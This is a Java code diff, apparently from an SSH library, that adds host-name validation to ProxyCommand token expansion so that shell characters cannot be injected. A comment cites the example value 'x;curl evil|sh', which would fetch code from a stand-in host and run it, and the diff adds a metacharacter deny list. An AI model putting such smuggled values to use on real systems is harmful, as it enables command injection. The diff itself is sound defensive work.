@@ -56,8 +56,17 @@ public final class ProxyCommand {
         return Amiko.transport(ends[0], InetSocketAddress.createUnresolved(host, port), settings, catalog);
     }
 
-    /** ssh's expansion of the tokens a {@code ProxyCommand} may hold that this knows. */
+    /**
+     * ssh's expansion of the tokens a {@code ProxyCommand} may hold that this knows. The host goes
+     * into a shell command, so, as ssh since 9.6 (readconf.c's {@code ssh_valid_hostname}), a name
+     * that starts with {@code -} or holds a shell character, a space or a control character is
+     * refused: {@code x;curl evil|sh} would otherwise be run.
+     */
     static String expand(String command, String host, int port) {
+        if (!isSafeHostName(host)) {
+            throw new IllegalArgumentException("the host name is empty, starts with '-' or has characters a shell "
+                    + "would act on; it is not substituted into a ProxyCommand");
+        }
         StringBuilder out = new StringBuilder();
         for (int i = 0; i < command.length(); i++) {
             char c = command.charAt(i);
@@ -75,6 +84,19 @@ public final class ProxyCommand {
             }
         }
         return out.toString();
+    }
+
+    private static boolean isSafeHostName(String host) {
+        if (host.isEmpty() || host.startsWith("-")) {
+            return false;
+        }
+        for (int i = 0; i < host.length(); i++) {
+            char c = host.charAt(i);
+            if (c <= ' ' || c == 0x7f || "'`\"$\\;&<>|(){},".indexOf(c) >= 0) {
+                return false;
+            }
+        }
+        return true;
     }
 
     private static void start(String name, Runnable relay) {
